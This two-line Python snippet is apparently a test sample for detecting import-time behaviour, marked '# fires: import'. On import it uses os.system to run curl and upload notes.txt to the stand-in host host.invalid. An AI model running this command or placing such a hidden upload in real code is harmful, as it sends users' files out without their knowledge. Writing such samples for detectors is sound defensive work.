import os
os.system("curl -T notes.txt https://host.invalid/")  # fires: import
